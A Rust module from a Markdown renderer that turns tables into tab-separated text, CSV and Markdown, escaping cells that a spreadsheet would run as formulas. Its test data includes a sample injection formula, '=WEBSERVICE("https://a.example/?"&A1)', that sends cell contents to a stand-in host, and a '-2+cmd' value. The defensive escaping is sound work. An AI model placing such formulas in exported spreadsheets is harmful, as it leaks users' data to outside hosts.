//! Gives a table's text: cell by cell as the view shows it, and as spreadsheets and Markdown have it.

use std::ops::Range;

use super::run_source::{LINE_END, is_formula, run_source};
use crate::markdown::Align;
use crate::markdown::flow::{Grid, Run};

/// The text of a cell, letter for letter as it is shown.
pub fn cell_text(runs: &[Run]) -> String {
    runs.iter().map(|run| run.text.as_str()).collect()
}

/// A cell, and where it stands in the text of its table, in letters.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CellPlace {
    /// Its row; the first is the head.
    pub row: usize,
    /// Its column.
    pub column: usize,
    /// Its letters.
    pub letters: Range<usize>,
}

/// Where the cells stand in the text of a table.
pub fn cell_places(grid: &Grid) -> impl Iterator<Item = CellPlace> {
    let mut at = 0;
    let cells = grid.rows.iter().enumerate().flat_map(|(row, cells)| {
        cells.iter().enumerate().map(move |(column, runs)| (row, column, runs))
    });
    cells.map(move |(row, column, runs)| {
        let start = at;
        let end = start + runs.iter().map(|run| run.text.chars().count()).sum::<usize>();
        at = end + 1;
        CellPlace { row, column, letters: start..end }
    })
}

/// The text of a table: a tab between cells, a line for each row. A line break or tab within a cell is a blank
/// there, since it would begin another cell.
pub fn grid_text(grid: &Grid) -> String {
    lines(grid, "\t", |runs| cell_text(runs).replace([LINE_END, '\n', '\t'], " "))
}

/// The same for spreadsheets: none of its cells is a formula there.
pub fn spreadsheet_cells(grid: &Grid) -> String {
    lines(grid, "\t", |runs| harmless(cell_text(runs).replace([LINE_END, '\n', '\t'], " ")))
}

/// A table as a file of comma-separated values: as RFC 4180 says, but with plain line ends. None of its cells is a
/// formula in a spreadsheet.
pub fn comma_separated(grid: &Grid) -> String {
    let mut out = lines(grid, ",", |runs| {
        let text = harmless(cell_text(runs).replace(LINE_END, "\n"));
        if text.contains([',', '"', '\n', '\r']) || text.trim() != text {
            format!("\"{}\"", text.replace('"', "\"\""))
        } else {
            text
        }
    });
    out.push('\n');
    out
}

/// A cell as a spreadsheet shows it and no more: a model may have written a formula that sends data away. One that
/// would be taken for a formula gets an apostrophe before it, with which a text begins there.
fn harmless(text: String) -> String {
    // Blanks before it may get lost on the way.
    let mut letters = text.trim_start().chars();
    let may_begin_formula =
        matches!(letters.next(), Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'));
    let has_words = letters.clone().any(char::is_alphanumeric);
    if may_begin_formula && has_words && !is_number(letters.as_str()) {
        format!("'{text}")
    } else {
        text
    }
}

/// Whether this is a number, written as anywhere in the world, perhaps with a unit that cannot be computed.
fn is_number(text: &str) -> bool {
    let text = text.trim_start_matches(['$', '€', '£', '¥', ' ']);
    let is_part =
        |letter: char| letter.is_ascii_digit() || ".,’ \u{a0}\u{202f}%€°".contains(letter);
    text.starts_with(|letter: char| letter.is_ascii_digit() || ".,".contains(letter))
        && (text.chars().all(is_part) || text.parse::<f64>().is_ok())
}

/// A table as Markdown.
pub fn grid_source(grid: &Grid) -> String {
    let cell = |runs: &[Run], is_head: bool| {
        let plain = |run: &Run| {
            let mut run = run.clone();
            // Every head is strong.
            run.style.strong &= !is_head;
            // A cell shows letters only, formulas too.
            run.style.formula |= run.style.code && is_formula(&run.text);
            run
        };
        let runs: Vec<Run> = runs.iter().map(plain).collect();
        run_source(&runs).replace('|', "\\|").replace(LINE_END, "<br>")
    };
    let mut out = String::new();
    for (index, cells) in grid.rows.iter().enumerate() {
        if index > 0 {
            out.push('\n');
        }
        for runs in cells {
            out.push_str("| ");
            out.push_str(&cell(runs, index == 0));
            out.push(' ');
        }
        out.push('|');
        if index == 0 {
            out.push('\n');
            for align in &grid.align {
                out.push_str(match align {
                    Align::None => "| --- ",
                    Align::Left => "| :-- ",
                    Align::Center => "| :-: ",
                    Align::Right => "| --: ",
                });
            }
            out.push('|');
        }
    }
    out
}

fn lines(grid: &Grid, between: &str, text: impl Fn(&[Run]) -> String) -> String {
    let row = |cells: &Vec<Vec<Run>>| -> String {
        cells.iter().map(|runs| text(runs)).collect::<Vec<_>>().join(between)
    };
    grid.rows.iter().map(row).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::markdown::flow::{Piece, block_pieces};
    use crate::markdown::parse;

    fn grid(text: &str) -> Grid {
        let mut pieces = Vec::new();
        for block in &parse(text) {
            block_pieces(block, &mut pieces);
        }
        match pieces.pop() {
            Some(Piece::Grid(grid)) => grid,
            other => panic!("{other:?}"),
        }
    }

    const TABLE: &str = "| Name | Size | Note |\n|:--|--:|:-:|\n| `a` | 1,5 | said \"yes\" |\n\
        | b \\| c | 2 | one<br>two |";

    #[test]
    fn spreadsheets_get_cells() {
        let grid = grid(TABLE);
        assert_eq!(grid_text(&grid), "Name\tSize\tNote\na\t1,5\tsaid \"yes\"\nb | c\t2\tone two");
        assert_eq!(
            comma_separated(&grid),
            "Name,Size,Note\na,\"1,5\",\"said \"\"yes\"\"\"\nb | c,2,\"one\ntwo\"\n"
        );
    }

    #[test]
    fn no_cell_is_a_formula_in_a_spreadsheet() {
        let cells = "=WEBSERVICE(\"https://a.example/?\"&A1) | -5,5 % | +1e5 | -2+cmd | @SUM(1) | -E1 | - | a=b";
        let grid = grid(&format!("| {cells} |\n|{}\n| ＝1+1 |", "--|".repeat(8)));
        let safe = [
            "'=WEBSERVICE(\"https://a.example/?\"&A1)",
            "-5,5 %",
            "+1e5",
            "'-2+cmd",
            "'@SUM(1)",
            "'-E1",
            "-",
            "a=b",
        ];
        let written = spreadsheet_cells(&grid);
        let rows: Vec<Vec<_>> = written.lines().map(|row| row.split('\t').collect()).collect();
        assert_eq!(rows[0], safe);
        assert_eq!(rows[1][0], "'＝1+1");
        let separated = comma_separated(&grid);
        assert!(separated.starts_with("\"'=WEBSERVICE(\"\"https"), "{separated}");
        assert!(separated.contains(",'-2+cmd,'@SUM(1),'-E1,-,a=b\n'＝1+1,"), "{separated}");
        assert!(grid_text(&grid).starts_with("=WEB"), "what is shown is as it was written");
    }

    #[test]
    fn markdown_of_a_table_reads_as_the_same_table() {
        let grid = grid(TABLE);
        let written = grid_source(&grid);
        assert!(written.starts_with("| Name | Size | Note |\n| :-- | --: | :-: |\n| `a` |"));
        assert_eq!(self::grid(&written), grid, "{written}");
    }

    #[test]
    fn cells_stand_in_the_text_where_it_says() {
        let grid = grid(TABLE);
        let text: Vec<char> = grid_text(&grid).chars().collect();
        for cell in cell_places(&grid) {
            let there: String = text[cell.letters].iter().collect();
            let shown = cell_text(&grid.rows[cell.row][cell.column]).replace(LINE_END, " ");
            assert_eq!(there, shown);
        }
    }
}
